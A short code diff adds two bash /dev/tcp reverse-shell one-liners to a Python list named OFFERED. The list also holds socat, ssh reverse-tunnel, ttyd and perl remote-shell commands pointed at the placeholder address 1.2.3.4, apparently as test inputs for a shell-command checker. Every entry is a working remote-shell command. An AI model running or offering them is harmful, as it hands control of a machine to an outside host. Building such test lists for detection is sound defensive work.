@@ -417,6 +417,8 @@ OFFERED = [
     "socat TCP:1.2.3.4:80 EXEC:'bash -li',pty,stderr",
     "ssh -R 2222:localhost:22 host",
     "ttyd bash",
+    'exec 5<>/dev/tcp/1.2.3.4/80; while read -r c <&5; do eval "$c" >&5; done',
+    "exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | while read c; do $c >&5 2>&5; done",
     'perl -MIO::Socket -e \'$c=new IO::Socket::INET(PeerAddr,"1.2.3.4:80");exec "/bin/sh -i"\'',
 ]
 
